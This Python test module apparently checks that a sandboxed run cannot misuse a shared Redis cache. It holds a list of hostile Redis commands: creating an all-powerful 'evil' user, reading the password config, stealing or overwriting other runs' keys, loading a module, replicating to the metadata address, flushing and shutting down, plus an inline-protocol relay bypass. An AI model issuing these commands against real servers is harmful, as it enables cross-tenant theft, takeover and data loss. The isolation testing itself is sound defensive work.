"""Ways by a declared cache: other users, other runs' keys, and commands for administrators."""

import socket
from functools import partial

from tests.integration.isolane.gate.forbidden_ways.way import (
    Facts,
    NotReached,
    Way,
    received,
    to_declared,
)

# `{other}` is a key of another run, `{prefix}` the beginning of the run's own keys.
_COMMANDS = {
    "client_list": ["CLIENT", "LIST"],
    "client_kill": ["CLIENT", "KILL", "TYPE", "normal"],
    "client_tracking": ["CLIENT", "TRACKING", "ON", "BCAST"],
    "auth_as_default": ["AUTH", "default", ""],
    "auth_by_guess": ["AUTH", "password"],
    "hello_as_default": ["HELLO", "3", "AUTH", "default", ""],
    "acl_list": ["ACL", "LIST"],
    "acl_setuser": ["ACL", "SETUSER", "evil", "on", "nopass", "~*", "+@all"],
    "config_get": ["CONFIG", "GET", "requirepass"],
    "config_set": ["CONFIG", "SET", "dir", "/tmp"],
    "keys": ["KEYS", "*"],
    "scan": ["SCAN", "0"],
    "random_key": ["RANDOMKEY"],
    "size": ["DBSIZE"],
    "get_of_another_run": ["GET", "{other}"],
    "exists_of_another_run": ["EXISTS", "{other}"],
    "set_of_another_run": ["SET", "{other}", "stolen"],
    "copy_of_another_run": ["COPY", "{other}", "{prefix}copy"],
    "script": ["EVAL", "return redis.call('GET', KEYS[1])", "1", "{other}"],
    "script_hidden": ["EVAL", "return redis.call('GET', ARGV[1])", "0", "{other}"],
    "function": ["FUNCTION", "LOAD", "#!lua name=evil\nredis.register_function('f', print)"],
    "subscribe": ["PSUBSCRIBE", "*"],
    "publish": ["PUBLISH", "anything", "stolen"],
    "monitor": ["MONITOR"],
    "flush": ["FLUSHALL"],
    "save": ["SAVE"],
    "shutdown": ["SHUTDOWN", "NOSAVE"],
    "module": ["MODULE", "LOAD", "/tmp/evil.so"],
    "replicate": ["REPLICAOF", "169.254.169.254", "6379"],
    "migrate": ["MIGRATE", "169.254.169.254", "6379", "{other}", "0", "100"],
    "sync": ["PSYNC", "?", "-1"],
    "debug": ["DEBUG", "SLEEP", "0"],
    "another_number": ["SELECT", "1"],
    "cluster": ["CLUSTER", "MEET", "169.254.169.254", "6379"],
}


def packed(words: list[str]) -> bytes:
    """Return a command as the server reads it."""
    parts = [b"*%d\r\n" % len(words)]
    for word in words:
        data = word.encode()
        parts.append(b"$%d\r\n%b\r\n" % (len(data), data))
    return b"".join(parts)


def _filled(words: list[str], facts: Facts) -> list[str]:
    cache = facts["cache"]
    named = {
        "{other}": cache.get("other", "run:other:key"),
        "{prefix}": cache.get("prefix", "run:own:"),
    }
    return [_replaced(word, named) for word in words]


def _replaced(word: str, named: dict[str, str]) -> str:
    for name, value in named.items():
        word = word.replace(name, value)
    return word


def _command(words: list[str], facts: Facts) -> str:
    """Log in if the run has a login, and send a command that is not for it."""
    with to_declared(facts, "cache") as sock:
        if login := facts["cache"].get("login"):
            sock.sendall(packed(["AUTH", *login]))
            sock.recv(100)
        sock.sendall(packed(_filled(words, facts)))
        return _judged(sock.recv(4096))


def _judged(answer: bytes) -> str:
    """Return an answer that is no refusal; none at all is one."""
    if not answer or answer.startswith(b"-"):
        raise NotReached(f"answered {answer[:120]!r}")
    return repr(answer[:80])


def _inline(facts: Facts) -> str:
    """Use the other form of commands, which a relay may not read."""
    with to_declared(facts, "cache") as sock:
        sock.sendall(b"ACL WHOAMI\r\nCONFIG GET requirepass\r\n")
        sock.shutdown(socket.SHUT_WR)
        answers = received(sock)
    if b"requirepass" in answers:
        return repr(answers[:80])
    raise NotReached(f"answered {answers[:120]!r}")


CACHE: dict[str, Way] = {
    **{f"cache_{name}": partial(_command, words) for name, words in _COMMANDS.items()},
    "cache_inline": _inline,
}
